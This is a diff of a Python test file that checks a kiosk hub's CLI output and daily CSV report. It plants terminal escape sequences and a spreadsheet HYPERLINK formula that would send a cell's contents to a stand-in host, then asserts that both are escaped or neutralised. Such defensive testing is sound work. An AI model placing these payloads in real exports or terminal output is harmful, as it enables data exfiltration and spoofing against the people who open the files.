@@ -18,9 +18,10 @@ from hub.cli import main
 from hub.db import Database, open_database
 from hub.flags import import_registry_changes
 from hub.fleet import record_status
-from hub.ingest import store_events
+from hub.ingest import store_events, store_events_detailed
 from hub.operators import AuthError, login
-from hub.schema import audit_log, migrate
+from hub.queries import csv_cell
+from hub.schema import audit_log, events, migrate
 from kiosk.clitools import EscapingFilter, escape_text, json_text
 from provisioning.registry import KioskRecord, KioskRegistry
 from tests.hub.factory import T0, make_event
@@ -142,8 +143,15 @@ def test_cli_output_escapes_what_came_from_outside(hub_config: Path) -> None:
     seed(hub_config)
     db = db_of(hub_config)
     hostile = make_event(5, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=5), id_number="079090000002")
-    hostile["subject"]["name"] = ESCAPE_NAME
+    refused = make_event(6, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=5), id_number="079090000003")
+    refused["subject"]["name"] = ESCAPE_NAME
+    result = store_events_detailed(db, [refused], now=T0 + dt.timedelta(minutes=6))
+    assert [event_id for event_id, _ in result.rejected] == [refused["event_id"]]  # the wire refuses it now
     store_events(db, [hostile], now=T0 + dt.timedelta(minutes=6))
+    with db.begin() as conn:  # a row stored before the wire's bounds existed: output must still be safe
+        conn.execute(
+            sa.update(events).where(events.c.event_id == hostile["event_id"]).values(subject_name=ESCAPE_NAME)
+        )
     record_status(db, "kiosk-1", {"state": "online", "version": "\x1b]0;owned\x07", "backlog": 0}, now=T0)
     with pytest.raises(AuthError):
         login(db, "\x1b[2J\x1b[Hadmin", "a wrong password", now=T0)
@@ -223,30 +231,16 @@ def test_kiosks_shows_versions_and_marks_silent_kiosks_stale(hub_config: Path) -
 def test_daily_report_csv_cells_are_never_formulas(hub_config: Path) -> None:
     """Issue 12 item 5: a kiosk planted `=HYPERLINK(...)` in the daily CSV (the dashboard's download too)."""
     db = db_of(hub_config)
-    planted = [
-        '=HYPERLINK("http://x.example/?"&A1,"open")',
-        "+1",
-        "-1",
-        "@SUM(A1)",
-        "\tx",
-        "\rx",
-        "fine-code",
-    ]
+    planted = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1", "-1", "@SUM(A1)", "fine-code"]
     store_events(db, [make_event(1, verdict="DENY", reasons=planted)], now=T0)
     db.dispose()
     out = run(hub_config, "report", "daily", "--date", "2026-11-20", "--format", "csv")
     keys = [r["key"] for r in csv.DictReader(io.StringIO(out)) if r["dimension"] == "reason"]
     assert sorted(keys) == sorted(
-        [
-            '\'=HYPERLINK("http://x.example/?"&A1,"open")',
-            "'+1",
-            "'-1",
-            "'@SUM(A1)",
-            "'\\tx",
-            "'\\rx",
-            "fine-code",
-        ]
+        ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "'+1", "'-1", "'@SUM(A1)", "fine-code"]
     )
+    # Tab and carriage return no longer pass the wire's bounds; a cell that holds one is still text.
+    assert (csv_cell("\tx"), csv_cell("\rx"), csv_cell(3)) == ("'\\tx", "'\\rx", 3)
 
 
 def test_kiosks_assign_and_import_from_the_provisioning_registry(hub_config: Path, tmp_path: Path) -> None:
